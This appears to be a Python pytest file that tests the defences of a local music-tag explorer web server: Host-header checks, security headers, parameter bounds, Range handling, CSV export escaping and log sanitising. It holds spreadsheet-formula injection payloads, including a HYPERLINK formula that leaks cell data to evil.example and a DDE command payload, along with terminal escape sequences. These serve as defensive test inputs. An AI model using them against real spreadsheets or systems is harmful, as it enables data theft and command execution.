"""explore against a hostile page or catalog: Host checks, security headers, bounded parameters,
ranges as RFC 9110 says, and a CSV export a spreadsheet cannot run."""

import csv
import http.client
import io
import json

import duckdb
import pyarrow
import pyarrow.parquet as pq
import pytest
from explore_run import write_run

from runfolder.schema import TAGS_SCHEMA

HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tat tab",
    "\rat cr",
    "\uff1dfull width",
    "plain-id",
    "mid=dle",
]


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    from infra.explore.query import Explorer
    from infra.explore.server import ExplorerServer

    root = tmp_path_factory.mktemp("explore_safety") / "it's a run"  # a quote in every path DuckDB could see
    write_run(root, tracks=6)
    rows = [
        {
            "track_id": track_id,
            "uri": f"/music/{i}.mp3",
            "model": {"name": "musicnn-mtt", "version": "1"},
            "duration_s": 1.5,
            "n_patches": 1,
            "scores": [{"tag": "piano", "score": 0.99 - 0.01 * i}],
            "embedding": [float(i)] * 8,
        }
        for i, track_id in enumerate(HOSTILE_IDS)
    ]
    pq.write_table(pyarrow.Table.from_pylist(rows, schema=TAGS_SCHEMA), root / "tags" / "run-2-hostile.parquet")
    explorer = Explorer.open([str(root)])
    httpd = ExplorerServer(explorer, "127.0.0.1", 0, quiet=True)
    httpd.start()
    yield httpd
    httpd.stop()
    explorer.close()


def request(server, path, headers=None, *, host=None, method="GET"):
    """``(status, headers, body)``; ``host`` replaces the Host header (None: the one urllib would send)."""
    port = server.server_address[1]
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.putrequest(method, path, skip_host=True)
        connection.putheader("Host", host or f"127.0.0.1:{port}")
        for key, value in (headers or {}).items():
            connection.putheader(key, value)
        connection.endheaders()
        response = connection.getresponse()
        return response.status, dict(response.getheaders()), response.read()
    finally:
        connection.close()


@pytest.mark.parametrize(
    "host", ["evil.example.com", "evil.example.com:{port}", "127.0.0.1:1", "127.0.0.1.evil.example:{port}", ""]
)
@pytest.mark.parametrize("path", ["/", "/api/tracks", "/api/tracks/plain-id", "/api/tracks/trk-001/audio"])
def test_a_request_naming_another_host_gets_nothing(server, host, path):
    status, _, body = request(server, path, host=host.format(port=server.server_address[1]) or " ")
    assert status == 421 and json.loads(body) == {
        "error": "unexpected Host header: open the address tagscale explore printed"
    }


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "[::1]", "LOCALHOST"])
def test_the_loopback_names_with_the_port_are_served(server, name):
    status, _, body = request(server, "/api/tracks?tag=piano&limit=1", host=f"{name}:{server.server_address[1]}")
    assert status == 200 and json.loads(body)["tracks"][0]["track_id"] == HOSTILE_IDS[0]


def test_listening_on_every_address_serves_ip_addresses_and_named_hosts_only(server):
    from infra.explore.server import ExplorerServer

    wide = ExplorerServer(server.explorer, "0.0.0.0", 0, quiet=True, allowed_hosts=["music-box.lan"])
    wide.start()
    try:
        port = wide.server_address[1]
        for host, want in [
            (f"10.1.2.3:{port}", 200),
            (f"[fe80::1]:{port}", 200),
            (f"music-box.lan:{port}", 200),
            (f"localhost:{port}", 200),
            ("10.1.2.3:1", 421),
            (f"evil.example.com:{port}", 421),
            (f"music-box.lan.evil.example:{port}", 421),
        ]:
            assert request(wide, "/api/tags", host=host)[0] == want, host
    finally:
        wide.stop()


@pytest.mark.parametrize(
    "path, headers, status",
    [
        ("/", {}, 200),
        ("/static/app.js", {}, 200),
        ("/static/style.css", {}, 200),
        ("/api/tracks", {}, 200),
        ("/api/tracks.csv?tag=piano", {}, 200),
        ("/api/tracks/trk-001/audio", {"Range": "bytes=0-9"}, 206),
        ("/api/tracks/trk-001/audio", {"Range": "bytes=99999999-"}, 416),
        ("/api/tracks?limit=0", {}, 400),
        ("/nothing-here", {}, 404),
    ],
)
def test_every_response_carries_the_security_headers(server, path, headers, status):
    got, response_headers, _ = request(server, path, headers)
    assert got == status
    assert response_headers["X-Content-Type-Options"] == "nosniff"
    policy = dict(part.strip().split(" ", 1) for part in response_headers["Content-Security-Policy"].split(";"))
    assert policy["default-src"] == "'none'" and policy["script-src"] == "'self'" and policy["style-src"] == "'self'"
    assert policy["media-src"] == "'self'" and policy["frame-ancestors"] == "'none'"
    assert response_headers["Cross-Origin-Resource-Policy"] == "same-origin"


def test_the_security_headers_come_with_a_refused_host_too(server):
    status, headers, _ = request(server, "/", host="evil.example.com")
    assert status == 421 and headers["X-Content-Type-Options"] == "nosniff" and "Content-Security-Policy" in headers


def test_the_page_needs_no_inline_script_or_style(server):
    _, _, page = request(server, "/")
    html = page.decode()
    assert "<script>" not in html and "style=" not in html
    assert html.count("<script") == html.count('<script src="/static/') >= 1  # each script its own file


@pytest.mark.parametrize(
    "query, words",
    [
        ("q=a&offset=9223372036854775808", "offset must be between 0 and"),
        ("tag=piano&offset=9223372036854775808", "offset must be between 0 and"),
        ("offset=99999999999999999999999999", "offset must be between 0 and"),
        ("tag=piano&limit=9223372036854775808", "limit must be between 1 and 500"),
    ],
)
def test_huge_numbers_are_400_with_a_short_message(server, query, words):
    status, _, body = request(server, f"/api/tracks?{query}")
    message = json.loads(body)["error"]
    assert status == 400 and message.startswith(words) and len(message) < 120, message


def test_a_huge_k_for_similar_tracks_is_400(server):
    status, _, body = request(server, "/api/tracks/trk-001/similar?k=9223372036854775808")
    assert status == 400 and json.loads(body)["error"].startswith("k must be between 1 and 100")


@pytest.mark.parametrize(
    "header", ["bytes=5-3", "bytes=a-b", "bytes=--5", "bytes= 5-9", "bytes=+5-9", "bytes=-", "items=0-9"]
)
def test_an_invalid_range_is_ignored_and_the_whole_file_sent(server, header):
    _, _, whole = request(server, "/api/tracks/trk-001/audio")
    status, headers, body = request(server, "/api/tracks/trk-001/audio", {"Range": header})
    assert status == 200 and body == whole and "Content-Range" not in headers and len(whole) > 1000


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(server):
    status, _, body = request(server, "/api/tracks.csv?tag=piano&min=0.85")
    assert status == 200
    records = list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))
    exported = [record["track_id"] for record in records]
    assert exported == ["'" + i if i[0] in "=+-@\t\r\uff1d" else i for i in HOSTILE_IDS]
    assert all(not record["run"].startswith("'") and float(record["score"]) >= 0.85 for record in records)


def test_the_explorer_database_opens_no_file(server, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("not in any run")
    for statement in ("SELECT * FROM read_text(?)", "COPY (SELECT 1) TO ?"):
        with pytest.raises(duckdb.Error, match="disabled by configuration|Unexpected prepared parameter"):
            server.explorer._query(statement, [str(secret)])
    with pytest.raises(duckdb.Error, match="locked"):
        server.explorer._query("SET enable_external_access = true", [])
    assert secret.read_text() == "not in any run"


def test_the_request_log_escapes_control_characters(server, capsys):
    import socket

    server.quiet = False
    try:
        with socket.create_connection(server.server_address[:2], timeout=30) as sock:
            host = f"127.0.0.1:{server.server_address[1]}"
            line = "GET /x\x1b]0;pwned\x07\x1b[2J HTTP/1.1\r\n"
            sock.sendall(f"{line}Host: {host}\r\nConnection: close\r\n\r\n".encode())
            assert sock.recv(100).startswith(b"HTTP/1.1 404")
    finally:
        server.quiet = True
    logged = capsys.readouterr().err
    assert "/x\\x1b]0;pwned\\x07\\x1b[2J" in logged and "\x1b" not in logged and "\x07" not in logged
